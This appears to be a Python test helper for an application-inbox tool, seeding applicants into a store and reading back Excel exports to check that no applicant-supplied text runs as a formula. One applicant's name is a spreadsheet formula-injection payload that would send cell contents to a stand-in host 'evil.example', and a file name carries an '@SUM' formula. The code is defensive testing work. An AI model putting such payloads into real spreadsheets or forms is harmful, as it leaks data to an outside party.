"""Shared by the export tests: a call's applicants recorded in a store, rules edited in a copy, exports read back."""

from __future__ import annotations

import re
import shutil
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from inbox_bot.core.models import Verdict
from tests.opkit import RULES_DIR, open_store, record

OXFAM = "oxfam-migration-2022"
OXFAM_ADDRESS = "procurement.maroc@oxfam.org"
OXFAM_MAIL = {"call": OXFAM, "to": OXFAM_ADDRESS, "subject": "Consultance migration"}
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"CV")'


def config_with_rules(tmp_path: Path, **edits: tuple[str, str]) -> Path:
    """A config over a copy of the shipped rules, `edits` mapping a call to (text, replacement) in its file."""
    rules = tmp_path / "rules"
    shutil.copytree(RULES_DIR, rules)
    for call, (old, new) in edits.items():
        path = rules / f"{call.replace('_', '-')}.toml"
        source = path.read_text(encoding="utf-8")
        assert old in source, (call, old)
        path.write_text(source.replace(old, new, 1), encoding="utf-8")
    config = tmp_path / "inbox-bot.toml"
    config.write_text(
        f'rules_dir = "{rules.as_posix()}"\ndatabase = "var/db.sqlite"\nstorage = "var/storage"\n',
        encoding="utf-8",
    )
    return config


SEALED = ("[deadline]", 'sealed = ["financial_offer"]\n\n[deadline]')  # a top-level key: before any table


def oxfam_applicants(config: Path) -> None:
    """Two on-time applicants (one with a name built to run as a formula) and one late, held apart."""
    store = open_store(config)
    record(
        store,
        "karim@example.ma",
        verdict=Verdict.COMPLETE,
        received=datetime(2022, 1, 10, 9, tzinfo=UTC),
        files={"CV.pdf": "cv", "offre.pdf": "financial_offer", "note.pdf": "methodology_note"},
        **OXFAM_MAIL,
    )
    record(
        store,
        "evil@example.org",
        name=EVIL_NAME,
        missing=["tax_certificate"],
        received=datetime(2022, 1, 12, 9, tzinfo=UTC),
        files={"@SUM(1+1).pdf": "cv", "CV.pdf": "methodology_note"},
        **OXFAM_MAIL,
    )
    record(
        store,
        "late@example.ma",
        name="Nadia Late",
        verdict=Verdict.LATE,
        missing=["cv"],
        received=datetime(2022, 1, 22, 9, tzinfo=UTC),
        files={"offre.pdf": "financial_offer"},
        **OXFAM_MAIL,
    )
    store.close()


def rows(sheet: Worksheet) -> list[list[object]]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def workbook(path: Path) -> Workbook:
    return load_workbook(path)


def links(book: Workbook) -> dict[str, str]:
    """Every hyperlink of the workbook: shown text -> target, percent-decoded."""
    found = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.hyperlink is not None:
                    found[f"{sheet.title}!{cell.coordinate}"] = unquote(str(cell.hyperlink.target))
    return found


def every_text(book: Workbook) -> str:
    return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value)


def stored_files(config: Path) -> dict[str, bytes]:
    """The stored copies (named by hash) by content, to compare the exported files with."""
    storage = config.parent / "var" / "storage"
    return {p.name: p.read_bytes() for p in storage.rglob("*") if p.is_file() and not p.name.startswith(".")}


def files_under(root: Path) -> list[str]:
    return sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())


def only_formula_shapes(book: Workbook) -> list[str]:
    """The formulas of a workbook that are not one of ours: none, if no applicant's text ran."""
    ours = re.compile(r'^=(IF\(COUNT\(|IF\([A-Z]+\d+="",""|COUNT\(|IF\(COUNT\()')
    return [
        str(cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and not ours.match(str(cell.value))
    ]
